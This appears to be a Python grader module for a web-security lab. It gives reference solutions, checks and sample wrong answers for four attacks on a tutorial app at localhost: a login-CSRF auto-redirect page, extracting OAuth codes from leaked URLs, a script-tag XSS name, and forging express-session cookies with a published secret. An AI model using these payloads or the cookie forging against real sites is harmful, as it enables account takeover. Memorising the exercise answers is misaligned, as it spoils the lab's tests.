"""Notebook 10's exercises: the key step of each attack on the tutorial's app, as written.

- `csrf_page`: the attacker's page that sends the victim's browser to the attacker's own
  callback (login CSRF, RFC 6749 §10.12);
- `code_from_leak`: the victim's code out of a leaked address (code injection, RFC 9700 §4.5);
- `xss_name`: a name that runs a script once the tutorial's home page prints it raw;
- `sign_session_id`: a session cookie signed with the tutorial's published secret.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import html
import html.parser
import json
import re
import urllib.parse
from typing import Any, Callable

from . import Case, Exercise, WrongAnswer, register, shown

# --- csrf_page: a top-level navigation to the attacker's callback -------------------------------


def csrf_page(callback_url: str) -> str:
    # A page the victim opens (a link in a chat, an ad): on load it sends their browser, as a
    # top-level navigation, to the callback carrying the ATTACKER's code. The URL is HTML-escaped
    # inside the attribute (an & in a query is &amp; there).
    return f'<meta http-equiv="refresh" content="0; url={html.escape(callback_url, quote=True)}">'


class PageLoad(html.parser.HTMLParser):
    """What a browser would do with a page: where it navigates on load, and what it only loads."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.navigates: list[str] = []  # a meta refresh: a top-level navigation, no click
        self.subresources: list[str] = []  # img, iframe, script src: loaded, not navigated to
        self.links: list[str] = []  # a link: waits for a click

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name.lower(): value or "" for name, value in attrs}
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            found = re.match(r"\s*\d+\s*;\s*url\s*=\s*['\"]?(.*?)['\"]?\s*$", values.get("content", ""), re.I | re.S)
            if found:
                self.navigates.append(found.group(1))
        elif tag in ("img", "iframe", "script") and values.get("src"):
            self.subresources.append(values["src"])
        elif tag == "a" and values.get("href"):
            self.links.append(values["href"])


def page_loads(page_html: str) -> PageLoad:
    """What a browser does with `page_html` on load: `.navigates` (meta refresh: a top-level
    navigation, no click), `.subresources` (img, iframe, script: loaded, not navigated to),
    `.links` (waiting for a click). URLs HTML-unescaped, as the browser reads them."""
    page = PageLoad()
    page.feed(page_html)
    page.close()
    return page


def judge_csrf_page(callback_url: str) -> Callable[[Any], str | None]:
    def judge(answer: Any) -> str | None:
        if not isinstance(answer, str):
            return f"it returned {shown(repr(answer))}: return the page's HTML, a str."
        page = page_loads(answer)
        if callback_url in page.navigates:
            return None
        if any(html.unescape(url) == callback_url for url in page.navigates):
            return None
        if page.navigates:
            return (f"the page navigates to {shown(page.navigates[0])}, not to the callback {shown(callback_url)}: "
                    "use the URL as given, HTML-escaped (html.escape(url, quote=True)).")
        if callback_url in page.subresources or any(html.unescape(u) == callback_url for u in page.subresources):
            return ("it loads the callback as an image or frame: a subresource. From the attacker's own site that "
                    "request is cross-site, so the session cookie the app sets in its answer is dropped (cookies are "
                    "SameSite=Lax by default). Make the browser NAVIGATE: <meta http-equiv=\"refresh\" "
                    "content=\"0; url=...\">.")
        if callback_url in page.links or any(html.unescape(u) == callback_url for u in page.links):
            return "a link waits for the victim to click it: make the page navigate on load (a meta refresh)."
        if "location" in answer and "<script" in answer:
            return ("a script that sets location navigates in a browser too, but the lab's browser here runs no "
                    "JavaScript: write the navigation in HTML, <meta http-equiv=\"refresh\" content=\"0; url=...\">.")
        if callback_url in answer:
            return ("the URL is in the page but nothing makes the browser go there: "
                    "<meta http-equiv=\"refresh\" content=\"0; url=...\">.")
        return f"the page does not send the browser to {shown(callback_url)}."
    return judge


CALLBACK = "http://localhost:3002/auth-redirect?code=TheAttackersOwnCode123"
CALLBACK_WITH_STATE = "http://localhost:3002/auth-redirect?code=TheAttackersOwnCode123&state=the-attackers"
WHY_NAVIGATE = ("Login CSRF (RFC 6749 §10.12): the victim's browser must go, as a top-level navigation and without "
                "a click, to the app's callback with the attacker's code.")

register(Exercise(
    name="csrf_page",
    reference=csrf_page,
    cases=[
        Case("the tutorial's callback with the attacker's code", (CALLBACK,), WHY_NAVIGATE,
             judge=judge_csrf_page(CALLBACK)),
        Case("a callback with two parameters (an & in the query)", (CALLBACK_WITH_STATE,),
             WHY_NAVIGATE + " Inside an HTML attribute an & is written &amp; (html.escape).",
             judge=judge_csrf_page(CALLBACK_WITH_STATE)),
    ],
    wrong_answers=[
        WrongAnswer(lambda url: f'<a href="{html.escape(url)}">You won a prize!</a>', "waits for the victim to click"),
        WrongAnswer(lambda url: f'<img src="{html.escape(url)}">', "SameSite=Lax"),
        WrongAnswer(lambda url: f"<p>{url}</p>", "nothing makes the browser go there"),
    ],
))


# --- code_from_leak: the victim's code out of a leaked address ----------------------------------


class NoCodeInLeak(ValueError):
    """The leaked line holds no authorization code."""


def code_from_leak(leaked: str) -> str:
    # A line that leaked the callback's address: a Referer header, a proxy's log, the browser's
    # history. Only the URL matters: the code is its query's `code` parameter, decoded.
    found = re.search(r"https?://\S+", leaked)  # the address, wherever it is in the line
    query = urllib.parse.urlsplit(found.group()).query if found else ""
    code = dict(urllib.parse.parse_qsl(query)).get("code")
    if not code:
        raise NoCodeInLeak(f"no code in {leaked[:60]!r}")
    return code


def naive_split(leaked: str) -> str:
    return leaked.split("code=")[1]


def no_decoding(leaked: str) -> str:
    query = leaked.split("?", 1)[1].split()[0]
    return dict(pair.split("=", 1) for pair in query.split("&"))["code"]


WHY_QUERY = ("The code is the value of the `code` parameter in the callback URL's query (RFC 6749 §4.1.2): "
             "urllib.parse.urlsplit(url).query, then urllib.parse.parse_qsl.")

register(Exercise(
    name="code_from_leak",
    reference=code_from_leak,
    cases=[
        Case("a Referer header", ("Referer: http://localhost:3002/auth-redirect?code=VictimsCode42",), WHY_QUERY,
             expect="VictimsCode42"),
        Case("a proxy's log line, more parameters after the code",
             ("GET http://localhost:3002/auth-redirect?code=VictimsCode42&lang=en HTTP/1.1",),
             WHY_QUERY + " Stop at the next & (parse_qsl does).", expect="VictimsCode42"),
        Case("a code with characters that are percent-encoded in a URL",
             ("Referer: http://localhost:3002/auth-redirect?code=a%2Bb%2Fc",),
             WHY_QUERY + " The value is percent-encoded in the URL: decode it (parse_qsl does).", expect="a+b/c"),
        Case("an address without a code (the login was cancelled)",
             ("Referer: http://localhost:3002/auth-redirect?error=access_denied",),
             "No code, nothing to replay: raise NoCodeInLeak.", raises=NoCodeInLeak),
    ],
    wrong_answers=[
        WrongAnswer(naive_split, "Stop at the next &"),
        WrongAnswer(no_decoding, "percent-encoded"),
    ],
))


# --- xss_name: a name that runs once printed raw ------------------------------------------------


def xss_name(marker: str) -> str:
    # The tutorial prints `<pre>${JSON.stringify(userInfo, null, 2)}</pre>`: the name goes into
    # the page inside a JSON string, so any " in it comes out as \" and breaks the script.
    # Single quotes (or none) survive; a marker with a ' or \ is written as a JSON-safe JS literal.
    return "<script>document.title=" + js_string(marker) + "</script>"


def js_string(text: str) -> str:
    """`text` as a JavaScript string literal in single quotes that JSON.stringify leaves alone."""
    return "'" + "".join(f"\\u{ord(c):04x}" if c in "'\\\"<>&" or ord(c) < 32 else c for c in text) + "'"


def json_stringify(value: str) -> str:
    """What JavaScript's JSON.stringify makes of a string (with the quotes around it)."""
    return json.dumps(value, ensure_ascii=False)


class _Scripts(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # A script with a type (text/plain, …) or a src does not run what it holds: not counted.
        self._in_script = tag == "script" and not any(name.lower() in ("type", "src") for name, _ in attrs)
        if self._in_script:
            self.scripts.append("")
        self.handlers += [value or "" for name, value in attrs if name.lower().startswith("on")]

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data


def sets_title(code: str, marker: str) -> bool:
    """Whether `code` is nothing but `document.title = '<marker>'` (single quotes or backticks,
    \\u escapes allowed, an optional semicolon): a script that surely runs, and does that."""
    found = re.fullmatch(r"\s*document\.title\s*=\s*(['`])((?:(?!\1)[^\\]|\\u[0-9a-fA-F]{4}|\\.)*)\1\s*;?\s*", code)
    if found is None:
        return False
    try:
        value = json.loads('"' + found.group(2).replace('"', '\\"').replace("\\'", "'").replace("\\`", "`") + '"')
    except ValueError:
        return False
    return value == marker


def judge_xss(marker: str) -> Callable[[Any], str | None]:
    def judge(answer: Any) -> str | None:
        if not isinstance(answer, str):
            return f"it returned {shown(repr(answer))}: return the name, a str."
        printed = "<pre>" + json_stringify(answer) + "</pre>"  # what the tutorial's home page writes
        page = _Scripts()
        page.feed(printed)
        code = page.scripts + page.handlers
        if any(sets_title(one, marker) for one in code):
            return None
        if not code:
            if "&lt;" in answer or "&#" in answer:
                return "it is escaped already: the page would show it as text. Write the raw <script> tag."
            return ("no script in the page: a name of <script>...</script> is printed raw by the tutorial "
                    "(no escaping), so the browser runs it.")
        if '\\"' in printed and any('\\"' in one for one in code):
            return ("JSON.stringify turned each \" into \\\" inside the page, which breaks the JavaScript: use "
                    "single quotes for the string, e.g. document.title='...'.")
        return (f"the script does not set document.title to {marker!r}: write "
                f"<script>document.title='{marker}'</script> (single quotes).")
    return judge


WHY_XSS = ("The tutorial's home page writes the userinfo answer into the HTML unescaped (`${JSON.stringify(...)}` "
           "inside <pre>): a name holding a <script> element runs in the browser of whoever sees the page.")

register(Exercise(
    name="xss_name",
    reference=xss_name,
    cases=[
        Case("the lab's marker", ("XSS ran",), WHY_XSS, judge=judge_xss("XSS ran")),
        Case("another marker", ("pwned",), WHY_XSS, judge=judge_xss("pwned")),
    ],
    wrong_answers=[
        WrongAnswer(lambda marker: f'<script>document.title="{marker}"</script>', "JSON.stringify turned each"),
        WrongAnswer(lambda marker: html.escape(f"<script>document.title='{marker}'</script>"), "escaped already"),
        WrongAnswer(lambda marker: marker, "no script in the page"),
    ],
))


# --- sign_session_id: express-session's cookie, with the published secret ----------------------


def sign_session_id(session_id: str, secret: str) -> str:
    # express-session's cookie (the npm package cookie-signature): "s:" + id + "." + the
    # HMAC-SHA256 of the id under the secret, in base64 without its "=" padding; then the
    # whole value URL-encoded (encodeURIComponent: "s:" becomes "s%3A").
    mac = hmac.new(secret.encode(), session_id.encode(), hashlib.sha256).digest()
    signed = "s:" + session_id + "." + base64.b64encode(mac).decode().rstrip("=")
    return urllib.parse.quote(signed, safe="")


def _unpadded(session_id: str, secret: str) -> str:
    mac = hmac.new(secret.encode(), session_id.encode(), hashlib.sha256).digest()
    return urllib.parse.quote("s:" + session_id + "." + base64.b64encode(mac).decode(), safe="")


def _hex(session_id: str, secret: str) -> str:
    mac = hmac.new(secret.encode(), session_id.encode(), hashlib.sha256).hexdigest()
    return urllib.parse.quote("s:" + session_id + "." + mac, safe="")


def _not_encoded(session_id: str, secret: str) -> str:
    mac = hmac.new(secret.encode(), session_id.encode(), hashlib.sha256).digest()
    return "s:" + session_id + "." + base64.b64encode(mac).decode().rstrip("=")


def _no_prefix(session_id: str, secret: str) -> str:
    mac = hmac.new(secret.encode(), session_id.encode(), hashlib.sha256).digest()
    return urllib.parse.quote(session_id + "." + base64.b64encode(mac).decode().rstrip("="), safe="")


def judge_cookie(session_id: str, secret: str) -> Callable[[Any], str | None]:
    expected = sign_session_id(session_id, secret)

    def judge(answer: Any) -> str | None:
        if not isinstance(answer, str):
            return f"it returned {shown(repr(answer))}: return the cookie's value, a str."
        plain = urllib.parse.unquote(answer)
        if answer == expected or (plain == urllib.parse.unquote(expected) and answer != plain):
            return None  # the server decodes it to the same value (quote() leaving / as it is, %2b for %2B)
        if answer == plain and plain == urllib.parse.unquote(expected):
            return "right value, but not URL-encoded: express-session writes encodeURIComponent(value) (s: is s%3A)."
        if not plain.startswith("s:"):
            return "express-session's signed value starts with 's:' (cookie-parser's mark of a signed cookie)."
        if plain.endswith("=") or "=" in plain.rsplit(".", 1)[-1]:
            return "cookie-signature strips the base64 padding: .rstrip('=') after base64-encoding the HMAC."
        if re.fullmatch(r"[0-9a-f]{64}", plain.rsplit(".", 1)[-1]):
            return "the HMAC goes in base64 (the digest's bytes), not in hex."
        if re.search(r"[-_]", plain.rsplit(".", 1)[-1]):
            return "cookie-signature uses standard base64 (+ and /), not the URL-safe alphabet (- and _)."
        same = next((i for i, (a, b) in enumerate(zip(plain, urllib.parse.unquote(expected))) if a != b), None)
        if same is not None:
            return f"it differs from the expected value from character {same} on: {shown(repr(plain[same:]))}."
        return f"it returned {shown(repr(answer))}, expected {shown(repr(expected))}."
    return judge


WHY_SIGN = ("express-session signs the session id with the app's secret (HMAC-SHA256, cookie-signature); with the "
            "tutorial's published secret anyone who learns a session id can sign it.")

register(Exercise(
    name="sign_session_id",
    reference=sign_session_id,
    cases=[
        Case("a session id and the tutorial's secret", ("8mHbYgQ0rDp3ReVKbxk2oA3uMtJ0s2wZ", "your_strong_secret_key"),
             WHY_SIGN, judge=judge_cookie("8mHbYgQ0rDp3ReVKbxk2oA3uMtJ0s2wZ", "your_strong_secret_key")),
        Case("another id, another secret", ("abc123", "keyboard cat"), WHY_SIGN,
             judge=judge_cookie("abc123", "keyboard cat")),
    ],
    wrong_answers=[
        WrongAnswer(_unpadded, "strips the base64 padding"),
        WrongAnswer(_hex, "not in hex"),
        WrongAnswer(_not_encoded, "not URL-encoded"),
        WrongAnswer(_no_prefix, "starts with 's:'"),
    ],
))
